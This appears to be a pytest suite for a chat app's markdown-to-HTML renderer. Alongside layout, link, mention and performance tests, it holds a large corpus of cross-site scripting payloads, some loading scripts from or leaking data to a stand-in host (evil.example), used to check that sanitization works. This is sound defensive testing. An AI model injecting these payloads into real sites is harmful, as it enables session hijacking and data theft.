"""What a message looks like: the layout people mean, and nothing that runs."""

from __future__ import annotations

import time
import unicodedata
import uuid
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.models import User
from hypothesis import given, settings
from hypothesis import strategies as st

from chat import messages, rooms, text
from chat.emoji import SHORTCODES
from chat.errors import InvalidChat
from chat.models import BODY_MAX, Mention, Room
from events.publishing import MAX_DATA
from tests.people import person

PEOPLE: Final = {
    name: {"id": at, "name": name.title(), "username": name}
    for at, name in enumerate(("alice", "alice.b", "bob_", "김철수", "김", "x@example.org"), 1)
}


def shown(value: str) -> str:
    return text.render(value, PEOPLE)[0]


def inline(value: str) -> str:
    html = shown(value)
    assert html.startswith('<p dir="auto">')
    assert html.endswith("</p>")
    return html.removeprefix('<p dir="auto">').removesuffix("</p>")


def link(href: str, label: str) -> str:
    return f'<a href="{href}" target="_blank" rel="nofollow noopener noreferrer">{label}</a>'


# --- Layout ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        (
            "*em* _em_ **strong** ~~gone~~",
            "<em>em</em> <em>em</em> <strong>strong</strong> <s>gone</s>",
        ),
        ("one\ntwo", "one<br>\ntwo"),
        ("`a < *b*`", "<code>a &lt; *b*</code>"),
        ("snake_case_name 2 * 3 * 4", "snake_case_name 2 * 3 * 4"),
        ("# no heading", "# no heading"),
        ("two\n---", "two<br>\n---"),
        ("    no code", "no code"),
        ("&lt; &amp; &copy;", "&amp;lt; &amp;amp; &amp;copy;"),
        ("\\*literally\\*", "*literally*"),
        ("<b>bold</b> <!-- x -->", "&lt;b&gt;bold&lt;/b&gt; &lt;!-- x --&gt;"),
        ("[a]: /b\n[a]", "[a]: /b<br>\n[a]"),
        (">_< >.<", "&gt;_&lt; &gt;.&lt;"),
        ("2026. 11. 27. 회의", "2026. 11. 27. 회의"),
        ("27) done", "27) done"),
        ("-1 degrees", "-1 degrees"),
        ("| a | b |\n|---|---|", "| a | b |<br>\n|---|---|"),
        (
            '**"이것"**은 **강조(주)**라고',
            '<strong>"이것"</strong>은 <strong>강조(주)</strong>라고',
        ),
        ("~~취소~~됩니다", "<s>취소</s>됩니다"),
        ("네~~ 좋아요~~ 그래요~~", "네~~ 좋아요~~ 그래요~~"),
        ("שלום *עולם*", "שלום <em>עולם</em>"),
    ],
)
def test_a_line(typed, html):
    assert inline(typed) == html


def test_blocks():
    assert shown("intro\n- a\n- **b**\n\n1. one\n2. two\n\n> quoted\nlazily") == (
        '<p dir="auto">intro</p>\n'
        '<ul>\n<li dir="auto">a</li>\n<li dir="auto"><strong>b</strong></li>\n</ul>\n'
        '<ol>\n<li dir="auto">one</li>\n<li dir="auto">two</li>\n</ol>\n'
        '<blockquote>\n<p dir="auto">quoted<br>\nlazily</p>\n</blockquote>'
    )


@pytest.mark.parametrize(
    ("info", "attribute"),
    [
        ("python", ' class="language-python"'),
        ("c++ title=x", ' class="language-c++"'),
        ("", ""),
        ('"><script>', ""),
        ("a" * 31, ""),
        ("한국어", ""),
    ],
)
def test_a_code_block_names_its_language(info, attribute):
    code = "if a < b:\n    *x* @alice :tada: https://example.org\n"
    assert shown(f"```{info}\n{code}```") == (
        f"<pre><code{attribute}>{code.replace('<', '&lt;')}</code></pre>"
    )


# --- Links -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("https://example.org", link("https://example.org", "https://example.org")),
        ("see http://x.org/a_b_c.", f"see {link('http://x.org/a_b_c', 'http://x.org/a_b_c')}."),
        ("(https://x.org/A_(b))", f"({link('https://x.org/A_(b)', 'https://x.org/A_(b)')})"),
        ("**https://x.org**", f"<strong>{link('https://x.org', 'https://x.org')}</strong>"),
        ("https://x.org/7을 보세요", f"{link('https://x.org/7', 'https://x.org/7')}을 보세요"),
        ("https://x.org에서", f"{link('https://x.org', 'https://x.org')}에서"),
        ("https://x.org:8/?a=1&b=2#c", link("https://x.org:8/?a=1&amp;b=2#c", "https://x.org:8/?a=1&amp;b=2#c")),
        ("https://x.org/위키/서울", link("https://x.org/%EC%9C%84%ED%82%A4/%EC%84%9C%EC%9A%B8", "https://x.org/위키/서울")),
        ("<https://x.org/a,>", link("https://x.org/a,", "https://x.org/a,")),
        ("[a **b**](https://x.org)", link("https://x.org", "a <strong>b</strong>")),
        ("[room](/rooms/7/)", link("/rooms/7/", "room")),
        ("[t](https://x.org 'no title')", link("https://x.org", "t")),
        ("`https://x.org`", "<code>https://x.org</code>"),
        ("xhttps://x.org ftp://x.org", "xhttps://x.org ftp://x.org"),
        ("https:// http://. https://-", "https:// http://. https://-"),
        ("[a](b) [a](//x.org) [a](mailto:a@b.c) [a]()", "[a](b) [a](//x.org) [a](mailto:a@b.c) [a]()"),
        ("[a](javascript:x) <javascript:x> <a@b.c>", "[a](javascript:x) &lt;javascript:x&gt; &lt;a@b.c&gt;"),
        ("![no](https://x.org/i.png)", f"!{link('https://x.org/i.png', 'no')}"),
    ],
)  # fmt: skip
def test_links(typed, html):
    assert inline(typed) == html


def test_an_address_beyond_all_length_is_no_link():
    assert "<a " not in shown(f"https://example.org/{'a' * 2000} [x](/{'a' * 2000})")


# --- Mentions ----------------------------------------------------------------------------------------------------


def mention(name: str) -> str:
    return f'<span class="mention" data-user="{PEOPLE[name]["id"]}">@{name}</span>'


@pytest.mark.parametrize(
    ("typed", "html"),
    [
        ("@alice", mention("alice")),
        ("Hi @alice, @alice. (@alice) **@alice**", f"Hi {mention('alice')}, {mention('alice')}. ({mention('alice')}) <strong>{mention('alice')}</strong>"),
        ("@alice에게 @alice님이", f"{mention('alice')}에게 {mention('alice')}님이"),
        ("@alice's @alice-", f"{mention('alice')}'s {mention('alice')}-"),
        ("@alice.b와 @alice.c", f"{mention('alice.b')}와 @alice.c"),
        ("@김철수에게 @김영희", f"{mention('김철수')}에게 {mention('김')}영희"),
        ("@bob_ @bob", f"{mention('bob_')} @bob"),
        ("@x@example.org", mention("x@example.org")),
        ("@alicex @Alice me@alice @nobody @@alice", "@alicex @Alice me@alice @nobody @@alice"),
        ("`@alice` [@alice](/x)", f"<code>@alice</code> {link('/x', '@alice')}"),
        ("https://x.org/@alice", link("https://x.org/@alice", "https://x.org/@alice")),
    ],
)  # fmt: skip
def test_mentions(typed, html):
    assert inline(typed) == html


def test_whoever_may_be_meant_is_asked_for():
    assert {"alice", "alice에", "alice에게"} <= text.mentioned("@alice에게")
    assert text.mentioned("@a.b.") == {"a.b.", "a.b"}
    assert text.mentioned("me@alice @ @@") == set()


def test_names_whom_it_shows_and_nobody_else():
    assert text.render("@alice `@김` @nobody", PEOPLE)[1] == {"alice"}


@pytest.fixture
def room(alice: User, bob: User) -> Room:
    return rooms.create(alice, "closed", "Deploys", members=[bob])


@pytest.mark.django_db
def test_a_message_mentions_readers_only(alice, bob, charlie, room):
    person("bob에게")  # reads nothing here: bob is meant
    body = "@bob에게 @charlie `@alice`"
    message, _ = messages.post(alice, room.pk, uuid.uuid4(), body)
    assert [row.user for row in Mention.objects.all()] == [bob]
    assert f'data-user="{bob.pk}">@bob</span>에게' in message.html
    assert message.html.count("<span") == 1
    messages.edit(alice, room.pk, message.pk, "`@bob`")
    assert not Mention.objects.exists()


# --- Shortcodes --------------------------------------------------------------------------------------------------


def test_shortcodes():
    assert inline("축하해요:tada: :+1: :TADA:") == "축하해요🎉 👍 🎉"
    assert inline("10:100:20 :nope: :: `:tada:`") == "10:100:20 :nope: :: <code>:tada:</code>"
    assert "🎉" not in inline("https://x.org/:tada:")


def test_every_shortcode_is_an_emoji():
    for name, emoji in SHORTCODES.items():
        assert inline(f":{name}:") == emoji
        assert unicodedata.is_normalized("NFC", emoji)
        assert any(each > "\u2000" for each in emoji), name


# --- What is typed -----------------------------------------------------------------------------------------------


def test_a_body_is_composed():
    assert text.body(unicodedata.normalize("NFD", "한글")) == "한글"


# --- Nothing runs ------------------------------------------------------------------------------------------------

_ALLOWED: Final[dict[str, set[str]]] = {
    "a": {"href", "target", "rel"},
    **{tag: set() for tag in ("blockquote", "br", "em", "ol", "pre", "s", "strong", "ul")},
    "code": {"class"},
    "li": {"dir"},
    "p": {"dir"},
    "span": {"class", "data-user"},
}


class Tree(HTMLParser):
    """Holds the HTML to what may be in it, as it is parsed: tags that match, attributes and their values."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _ALLOWED, tag
        given: dict[str, Any] = dict(attrs)
        assert len(given) == len(attrs)
        assert given.keys() <= _ALLOWED[tag], (tag, given)
        if tag == "a":
            self.check_link(given)
        if tag == "span":
            assert given["class"] == "mention"
            assert given["data-user"].isdecimal()
        if "dir" in given:
            assert given["dir"] == "auto"
        if tag == "code" and "class" in given:
            assert given["class"].startswith("language-")
            assert len(given["class"].split()) == 1
        if tag != "br":
            self.open.append(tag)

    def check_link(self, given: dict[str, Any]) -> None:
        assert given["target"] == "_blank"
        assert given["rel"] == "nofollow noopener noreferrer"
        assert "a" not in self.open
        href = given.get(
            "href", "/"
        )  # nh3 takes away what it can't read: a link that leads nowhere
        assert not any(each <= " " or each == "\\" for each in href)
        parts = urlsplit(href)
        if parts.scheme:
            assert parts.scheme in {"http", "https"}
            assert parts.netloc
        else:
            assert href.startswith("/")
            assert not href.startswith("//")

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a section: {data}")


def check(html: str) -> Tree:
    tree = Tree()
    tree.feed(html)
    tree.close()
    assert not tree.open
    return tree


_RUN: Final = "window.hit(1)"
_HTML: Final = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT >{_RUN}</SCRIPT\t>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script/x>{_RUN}</script>",
    f"</p><script>{_RUN}</script><p>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'//",
    f'<img """><script>{_RUN}</script>">',
    f"<img\nsrc=x\nonerror\n=\n{_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<IMG SRC=j&#X41vascript:{_RUN}>",
    f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg onload='{_RUN}'/>#x\"/></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<math><annotation-xml encoding='text/html'><script>{_RUN}</script></annotation-xml></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<textarea><img title='</textarea><img src=x onerror={_RUN}>'>",
    f"<title><img title='</title><img src=x onerror={_RUN}>'>",
    f"<xmp><img title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    "<embed src=//evil.example/x.swf>",
    f"<frameset onload={_RUN}><frame src=about:blank></frameset>",
    f"<body onload={_RUN}>",
    f"<body background=javascript:{_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}><option>x</select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<keygen autofocus onfocus={_RUN}>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    f"<form action=javascript:{_RUN}><input type=submit></form>",
    "<form action=//evil.example><input name=password></form>",
    f"<isindex action=javascript:{_RUN} type=image>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<video poster=javascript:{_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<dialog open onclose={_RUN}>x</dialog>",
    f"<div onpointerenter={_RUN} style=position:fixed;inset:0>x</div>",
    f"<p onmouseover={_RUN}>x</p>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>",
    f"<a href='&#106;avascript:{_RUN}'>x</a>",
    f"<a href=data:text/html,<script>{_RUN}</script>>x</a>",
    f"<a href=https://x.org onclick={_RUN}>x</a>",
    f"<base href=javascript:{_RUN}//>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=Set-Cookie content='sessionid=1'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<link rel=import href=data:text/html,<script>{_RUN}</script>>",
    f"<style>@import 'javascript:{_RUN}';</style>",
    "<style>p{background:url(//evil.example/leak)}</style>",
    "<p style='background:url(//evil.example/leak)'>x</p>",
    f"<p style='width:expression({_RUN})'>x</p>",
    f"<table background=javascript:{_RUN}><td>x</table>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    "<!DOCTYPE html SYSTEM '//evil.example/x.dtd'>",
    f"<custom-element onclick={_RUN}>x</custom-element>",
    f"<hub-room onclick={_RUN}>x</hub-room>",
    "<span class=mention data-user=1>@alice</span>",
    "<slot name=x></slot><portal src=//evil.example></portal>",
    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{_RUN}",
    f"<\N{ZERO WIDTH SPACE}script>{_RUN}</script>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\<script>{_RUN}\\</script>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
]
_MARKDOWN: Final = [
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x]( javascript:{_RUN})",
    f"[x](<javascript:{_RUN}>)",
    f"[x](<java\tscript:{_RUN}>)",
    f"[x](javascript&colon;{_RUN})",
    f"[x](javascript&#58;{_RUN})",
    f"[x](&#x6A;avascript:{_RUN})",
    f"[x](\\javascript:{_RUN})",
    f"[x](java\\script:{_RUN})",
    f"[x](javascript://example.org/%0A{_RUN})",
    f"[x](vbscript:{_RUN})",
    f"[x](data:text/html;base64,PHNjcmlwdD4= '{_RUN}')",
    f"[x](data:image/svg+xml,<svg/onload={_RUN}>)",
    f"[x](blob:https://x.org/{_RUN})",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](/\\/evil.example)",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](https:///evil.example)",
    "[x](http://)",
    "[x](?q=1) [x](#top) [x](../x) [x]()",
    "[x](ftp://evil.example) [x](tel:1) [x](sms:1) [x](ws://x.org)",
    f"[x](https://x.org/\"onmouseover={_RUN}//)",
    f"[x](https://x.org 'a\" onmouseover={_RUN} x=\"')",
    f"[\" onmouseover={_RUN}](https://x.org)",
    f"[<img src=x onerror={_RUN}>](https://x.org)",
    f"[`</code><script>{_RUN}</script>`](https://x.org)",
    "[[x](https://a.org)](https://b.org)",
    "[x https://a.org <https://c.org>](https://b.org)",
    f"[x][ref]\n\n[ref]: javascript:{_RUN}",
    f"![x](javascript:{_RUN})",
    f"![\" onerror={_RUN} x=\"](https://x.org/i.png)",
    f"![x](https://x.org/i.png \"a' onload={_RUN}\")",
    f"<javascript:{_RUN}>",
    f"<https://x.org/\"onmouseover={_RUN}>",
    f"<https://x.org/'onmouseover={_RUN}>",
    f"https://x.org/\"onmouseover=\"{_RUN}",
    f"https://x.org/'onmouseover='{_RUN}",
    f"https://x.org/<script>{_RUN}</script>",
    f"https://x.org/`onmouseover={_RUN}",
    f"https://x.org\\@evil.example/{_RUN}",
    "https://x.org/\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    "https://[::1] https://[::1/x https://[x] http://a:b@x.org http://x.org:99999999",
    f"```\"><script>{_RUN}</script>\nx\n```",
    f"``` \" onclick={_RUN}\nx\n```",
    f"```js class=x onclick={_RUN}\n</code></pre><script>{_RUN}</script>\n```",
    f"~~~&quot;onclick={_RUN}\nx\n~~~",
    f"`` </code><img src=x onerror={_RUN}> ``",
    f"> <script>{_RUN}</script>\n> - <img src=x onerror={_RUN}>",
    f"1. <svg onload={_RUN}>\n   ```\n   </pre><script>{_RUN}</script>",
    f"*<b onclick={_RUN}>*x**</b>**",
    f"~~<s onclick={_RUN}>~~",
    f"@alice<script>{_RUN}</script>",
    f"@alice\"onclick={_RUN}",
    f":<img src=x onerror={_RUN}>:",
    f":tada\"onclick={_RUN}:",
    f"a\N{NO-BREAK SPACE}<img\N{NO-BREAK SPACE}src=x onerror={_RUN}>",
    f"a\N{LINE SEPARATOR}<script>{_RUN}</script>",
]  # fmt: skip


def test_the_corpus_is_large():
    assert len({*_HTML, *_MARKDOWN}) >= 140


@pytest.mark.parametrize("payload", [*_HTML, *_MARKDOWN])
@pytest.mark.parametrize(
    "around", ["{}", "**{}**", "> {}", "- {}", "[{}](https://x.org)", "@alice {} `x`"]
)
def test_nothing_runs(payload, around):
    check(shown(around.format(payload)))


@pytest.mark.parametrize("payload", _HTML)
def test_what_is_no_markdown_is_seen_as_it_was_typed(payload):
    if "\\" not in payload and "https://" not in payload:
        assert check(shown(payload)).text.replace("\n", "") == payload.replace("\n", "")


@pytest.mark.parametrize("payload", _HTML)
def test_what_gets_past_the_layout_is_stopped_behind_it(payload):
    """nh3 alone, as if markdown-it let HTML through."""
    from chat.markdown import _SAFE

    for html in (payload, f'<a href="/x" class="y" data-user="1" id="z">{payload}</a>'):
        tree = Loose()
        tree.feed(_SAFE.clean(html))
        tree.close()


class Loose(Tree):
    """What nh3 lets pass of foreign HTML may lack what the layout always gives."""

    def check_link(self, given: dict[str, Any]) -> None:
        super().check_link({"target": "_blank", **given})

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "span":
            attrs = [("class", "mention"), ("data-user", "1"), *attrs][-2:]
        super().handle_starttag(tag, attrs)


_PIECES: Final = st.sampled_from(
    [
        *"<>\"'`*_~[]()!\\&;:/#-+=@.\n\t >", *(["```", "~~~", "\n\n", "  ", "](", "![", "<a href=", "javascript:"]),
        *(["https://x.org", "http://", "@alice", "@김철수에게", ":tada:", "&lt;", "&#106;", "script", "</p>", "1. ", "- ", "> "]),
        *(["가나", "é", "🎉", "\N{ZERO WIDTH JOINER}", "\N{RIGHT-TO-LEFT OVERRIDE}", "\N{COMBINING ACUTE ACCENT}"]),
    ]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(_PIECES, max_size=60).map("".join))
def test_nothing_runs_whatever_is_typed(value):
    html, named = text.render(value, PEOPLE)
    tree = check(html)
    assert named <= set(PEOPLE)
    assert all(f"@{name}" in tree.text for name in named)


# --- No text takes long, or vanishes -----------------------------------------------------------------------------

_REPEATED: Final = [
    *"[]<>`*_~(@&\\|:!#-\n", "<a", "**a ", "*_", "~~", "> ", ">", "- ", "1. ", "* a\n", "[](", "[a](", "[[a](b)",
    "[x](/", "[]()", "[a](/b 't", "[a](<", "![", "[`", "`[", "*[a](", "**[a](b)**", "[[]", "(@", "@a", "@alice ",
    "@가", "@alice가", "http://a.b ", "http://", "http://a(((", "https://a.b/)", "<http://a.b>", "<http:", "://", "a:",
    ":tada:", ":100", "😀", "\\*", "&lt;", "```\n", "~~~\n", "a\n\n", "*a_ ", "a**b", "é*", "**a**가", "`a", "- a\n  ",
    "> - ", "_[b]*",
]  # fmt: skip
_SHAPED: Final = {
    "quotes in quotes": "".join("> " * n + "x\n" for n in range(1, 63)),
    "lists in lists": "".join(" " * n + "- x\n" for n in range(1, 86)),
    "backticks that never match": "".join("`" * n + " " for n in range(1, 89)),
    "brackets in an address": f"http://a.b/{'(' * 1990}{')' * 1990}",
    "brackets at its end": f"http://a.b/{')' * 3980}",
    "points at its end": f"http://a.b/{'.' * 3980}",
    "a long host": f"http://{'a-' * 1990}",
    "a long name": f"@{'.' * 3990}",
    "open, then closed": "[" * 2000 + "]" * 2000,
    "a link's long end": "[" * 1000 + "a" + "](b)" * 700,
    "a link's long place": f"[a]({'(' * 3900}",
    "a link's long title": "[a](/b '" + "\\'" * 1900,
}


@pytest.mark.parametrize(
    "value",
    [
        *(pytest.param((piece * BODY_MAX)[:BODY_MAX], id=repr(piece)) for piece in _REPEATED),
        *(pytest.param(value[:BODY_MAX], id=name) for name, value in _SHAPED.items()),
    ],
)
def test_no_text_takes_long(value):
    times = []
    for _ in range(5):
        began = time.process_time()
        html, _named = text.render(value, PEOPLE)
        times.append(time.process_time() - began)
        if times[-1] < 0.05:
            break
    assert min(times) < 0.05
    check(html)
    assert len(html) < 100_000


@pytest.mark.parametrize(
    "value", ["> " * 40 + "deep", "- " * 40 + "deep", "**x** " * 1000 + "deep"]
)
def test_what_is_too_much_to_lay_out_is_shown_plain(value):
    assert check(shown(value)).text == value


def test_plain_text_keeps_its_lines_links_and_mentions():
    html = shown("> " * 40 + "deep\n@alice https://x.org")
    assert html.endswith(
        f"deep<br>\n{mention('alice')} {link('https://x.org', 'https://x.org')}</p>"
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("piece", "fits"),
    [
        ("😀", True),
        ("<", True),
        ("&", True),
        ("가", True),
        ('"', True),
        ("@bob ", False),
        ("[](/)", False),
    ],
)
def test_an_event_holds_every_message_or_it_is_refused(alice, bob, room, piece, fits):
    body = (piece * BODY_MAX)[:BODY_MAX].strip()
    if not fits:
        with pytest.raises(InvalidChat) as refused:
            messages.post(alice, room.pk, uuid.uuid4(), body)
        assert refused.value.field == "body"
        assert not messages.page(room).messages
        return
    message, _ = messages.post(alice, room.pk, uuid.uuid4(), body)
    import orjson

    assert len(orjson.dumps(messages.item(message))) <= MAX_DATA
